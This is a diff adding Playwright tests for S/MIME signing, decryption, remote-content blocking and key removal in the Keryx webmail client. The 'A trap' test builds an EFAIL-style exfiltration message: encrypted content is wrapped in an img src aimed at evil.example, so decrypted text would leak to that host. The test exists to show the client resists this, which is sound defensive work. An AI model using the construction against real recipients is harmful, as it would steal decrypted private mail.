@@ -1,0 +1,173 @@
+import { join } from "node:path";
+import { expect, type Page } from "@playwright/test";
+import { OpenSsl } from "../lib/smime/testing/openssl.ts";
+import { handIn } from "../mail-core/testing/dialogue.ts";
+import { expectAccessible } from "./accessible.ts";
+import { needs } from "./needs.ts";
+import type { Keryx } from "./servers.ts";
+import { test } from "./shared-keryx.ts";
+import { rows, signIn } from "./signing-in.ts";
+
+needs("openssl");
+test.describe.configure({ mode: "serial" });
+
+let keryx: Keryx;
+let openssl: OpenSsl;
+const folder = (name: string) => openssl.at(name);
+
+test.beforeAll(async ({ shared }) => {
+  keryx = await shared.lend(["bob"]);
+  openssl = await OpenSsl.open();
+  await openssl.certify({ address: null, name: "authority" });
+  for (const [name, address] of [
+    ["bob", "bob@crepes.fr"],
+    ["alice", "alice@crepes.fr"],
+    ["carol", "carol@hamburger.edu"],
+  ] as const)
+    await openssl.certify({ address, name, issuer: "authority" });
+});
+test.afterAll(() => openssl.close());
+
+const reading = (page: Page) => page.getByRole("region", { name: "Reading" });
+const open = (page: Page, subject: string) =>
+  rows(page).filter({ hasText: subject }).getByRole("link").first().click();
+
+/** Hands in what `openssl cms` made of these words. */
+async function arrive(subject: string, words: string, ...how: string[]): Promise<void> {
+  await openssl.put("words", words);
+  await openssl.run("cms", "-in", "words", "-out", "message", "-crlfeol", ...how);
+  await handInFile(subject, "message");
+}
+async function handInFile(subject: string, name: string, change = (text: string) => text): Promise<void> {
+  const made = change(Buffer.from(await openssl.get(name)).toString("latin1")).replace(/\r?\n/g, "\r\n");
+  const message = `From: Carol <carol@hamburger.edu>\r\nTo: bob@crepes.fr\r\nSubject: ${subject}\r\n${made}`;
+  const envelope = { from: "carol@hamburger.edu", to: "bob@crepes.fr" };
+  await handIn(keryx.ports.smtp, envelope, Buffer.from(message, "latin1"));
+}
+const byCarol = ["-sign", "-signer", "carol.pem", "-inkey", "carol.key", "-certfile", "authority.pem"];
+
+/** Light, dark and on a phone, beside the results of the test. */
+async function picture(page: Page, name: string): Promise<void> {
+  for (const [ending, colorScheme, size] of [
+    ["", "light", { width: 1280, height: 800 }],
+    ["-dark", "dark", { width: 1280, height: 800 }],
+    ["-phone", "light", { width: 390, height: 844 }],
+  ] as const) {
+    await page.emulateMedia({ colorScheme });
+    await page.setViewportSize(size);
+    await page.screenshot({ path: join(test.info().outputDir, `${name}${ending}.png`) });
+  }
+  await page.emulateMedia({ colorScheme: null });
+  await page.setViewportSize({ width: 1280, height: 800 });
+}
+
+async function importKey(page: Page, name: string): Promise<void> {
+  await page.goto(`${keryx.url}/settings/encryption`);
+  await page.getByLabel("Key file").setInputFiles(folder(`${name}.p12`));
+  await page.getByLabel("Its password").fill("crepes");
+  await page.getByRole("button", { name: "Import" }).click();
+  await expect(page.getByText("The key is here.")).toBeVisible();
+}
+
+test("who signed a message is told in words, a certificate is trusted on a click, and what was changed is told", async ({
+  page,
+}) => {
+  const words = "Content-Type: text/plain; charset=utf-8\r\n\r\nCrêpes at noon.\r\n";
+  await arrive("Lunch is signed", words, ...byCarol);
+  await handInFile("Lunch was changed", "message", (text) => text.replace("at noon", "at one!"));
+  await signIn(page, keryx, "bob@crepes.fr");
+  await open(page, "Lunch is signed");
+  const told = reading(page).getByRole("region", { name: "Signature" });
+  await expect(told.getByText("Signed with a certificate that you do not know yet")).toBeVisible();
+  await expect(reading(page).getByText("Crêpes at noon.")).toBeVisible();
+  await expect(reading(page).getByText("smime.p7s")).toHaveCount(0);
+  await expectAccessible(page, "a signature that is not known");
+  await picture(page, "signed");
+  await told.getByRole("button", { name: "Trust all certificates of authority" }).click();
+  await expect(told.getByText("Signed by carol, and not changed since")).toBeVisible();
+  await told.getByRole("button", { name: "Signed by carol, and not changed since" }).click();
+  await expect(told.getByText("carol@hamburger.edu", { exact: true })).toBeVisible();
+
+  await open(page, "Lunch was changed");
+  await expect(told.getByText("Changed since it was signed")).toBeVisible();
+  await expect(reading(page).getByText("Crêpes at one!.")).toBeVisible();
+});
+
+test("an encrypted message asks for its key, opens in the browser, and fetches nothing from elsewhere", async ({
+  page,
+}) => {
+  const html =
+    'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>The <b>recipe</b> is secret.</p><img src="https://tracker.example/seen.gif">\r\n--x\r\nContent-Type: text/plain; name="recipe.txt"\r\nContent-Disposition: attachment; filename="recipe.txt"\r\n\r\nFlour, eggs, milk.\r\n--x--\r\n';
+  await arrive("A recipe", html, "-encrypt", "-aes-256-cbc", "-recip", "bob.pem");
+  await signIn(page, keryx, "bob@crepes.fr");
+  await open(page, "A recipe");
+  await expect(reading(page).getByText("Encrypted, for a key that is not in this browser.")).toBeVisible();
+  await expectAccessible(page, "a message without its key");
+
+  await importKey(page, "bob");
+  await expect(page.getByRole("list", { name: "Your keys" })).toContainText("bob@crepes.fr");
+  await expect(page.getByRole("list", { name: "Your keys" })).toContainText("Issued by authority");
+  await expectAccessible(page, "signing and encryption in the settings");
+  await picture(page, "settings");
+
+  await page.goto(`${keryx.url}/mail/inbox`);
+  await open(page, "A recipe");
+  await expect(reading(page).getByText("Encrypted in the way of most mail programs")).toBeVisible();
+  await picture(page, "locked");
+  await reading(page).getByLabel("Password of the key file").fill("waffles");
+  await reading(page).getByRole("button", { name: "Open", exact: true }).click();
+  await expect(reading(page).getByText("This is not its password.")).toBeVisible();
+  await reading(page).getByLabel("Password of the key file").fill("crepes");
+  await reading(page).getByRole("button", { name: "Open", exact: true }).click();
+
+  const frame = reading(page).frameLocator("iframe").first();
+  await expect(frame.getByText("The recipe is secret.")).toBeVisible();
+  await expect(reading(page).getByText("does not tell whether somebody changed it")).toBeVisible();
+  await expect(reading(page).getByText("Nothing is fetched for a message that is opened here")).toBeVisible();
+  await expect(reading(page).getByRole("button", { name: "Show images" })).toHaveCount(0);
+  await expectAccessible(page, "a message that was opened here");
+  await picture(page, "opened");
+
+  const files = page.getByRole("region", { name: "Attachments" });
+  await files.getByRole("button", { name: "View recipe.txt" }).click();
+  await expect(
+    page.getByRole("dialog", { name: "recipe.txt" }).getByText("Flour, eggs, milk."),
+  ).toBeVisible();
+  await page.keyboard.press("Escape");
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    files.getByRole("link", { name: "Download recipe.txt" }).click(),
+  ]);
+  expect(download.suggestedFilename()).toBe("recipe.txt");
+});
+
+test("what was encrypted and stands among other parts is not opened", async ({ page }) => {
+  await openssl.put("words", "Content-Type: text/plain\r\n\r\nThe secret.\r\n");
+  const how = ["-encrypt", "-aes-256-cbc", "-recip", "bob.pem", "-keyopt", "rsa_padding_mode:oaep"];
+  await openssl.run("cms", "-in", "words", "-out", "message", "-crlfeol", ...how);
+  await handInFile(
+    "A trap",
+    "message",
+    (secret) =>
+      `MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\nContent-Type: text/html\r\n\r\n<p>Look:</p><img src="https://evil.example/?\r\n--y\r\n${secret}\r\n--y\r\nContent-Type: text/html\r\n\r\n">\r\n--y--\r\n`,
+  );
+  await signIn(page, keryx, "bob@crepes.fr");
+  await importKey(page, "bob");
+  await page.goto(`${keryx.url}/mail/inbox`);
+  await open(page, "A trap");
+  await expect(page.getByRole("region", { name: "Attachments" }).getByText("smime.p7m")).toBeVisible();
+  await expect(reading(page).getByText("The secret.")).toHaveCount(0);
+});
+
+test("a sign-out says that keys go, and leaves none", async ({ page }) => {
+  await signIn(page, keryx, "bob@crepes.fr");
+  await importKey(page, "bob");
+  await page.getByRole("button", { name: "Sign out" }).click();
+  const asked = page.getByRole("dialog", { name: "Sign out and lose your keys?" });
+  await expect(asked).toContainText("keep its key file");
+  await asked.getByRole("button", { name: "Delete and sign out" }).click();
+  await page.waitForURL(/\/sign-in/);
+  await signIn(page, keryx, "bob@crepes.fr");
+  await page.goto(`${keryx.url}/settings/encryption`);
+  await expect(page.getByText("No key yet.")).toBeVisible();
+});
